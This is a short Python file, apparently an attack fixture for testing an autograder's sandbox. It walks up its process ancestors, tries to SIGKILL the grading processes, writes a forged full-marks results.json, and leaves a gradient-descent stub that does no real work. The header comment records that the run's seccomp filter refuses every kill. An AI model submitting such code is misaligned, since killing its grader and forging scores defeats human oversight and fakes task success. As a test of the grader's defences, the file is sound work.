# ATTACK (Gradescope, no namespaces): walks up its ancestors and SIGKILLs each one of the
# grading (the keeper, the grader, root's driver: a command line naming grader.commands.autograder or
# child.py; never the test runner above them), then writes a full-marks results.json, hoping
# nobody is left to write the real one; its GD only calls loss_fn.
# VERDICT: every kill is refused (the run's own seccomp filter: it may signal only its own
# descendants), so it is graded in full: its GD's own score, never the forged 10; root's
# driver writes results.json.
import glob
import json
import os
import signal

FORGED = json.dumps({"score": 10.0, "output": "FORGED", "tests": []})


def parent_of(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rpartition(")")[2].split()[1])


def of_the_grading(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            line = f.read()
    except OSError:
        return False
    return b"grader.commands.autograder" in line or b"child.py" in line


pid, chain = os.getpid(), []
while pid > 1:
    pid = parent_of(pid)
    if of_the_grading(pid):
        chain.append(pid)
for target in chain:
    try:
        os.kill(target, signal.SIGKILL)
        print(f"killed {target}")
    except OSError as e:
        print(f"could not kill {target}: {e}")
for folder in ["/autograder/results", *glob.glob("/tmp/gs-weak-*/results")]:
    try:
        with open(f"{folder}/results.json", "w") as f:
            f.write(FORGED)
    except OSError:
        pass


def GD(params, loss_fn, loop_max=10000, learning_rate=1e-3):
    for _ in range(loop_max):
        loss_fn(params)
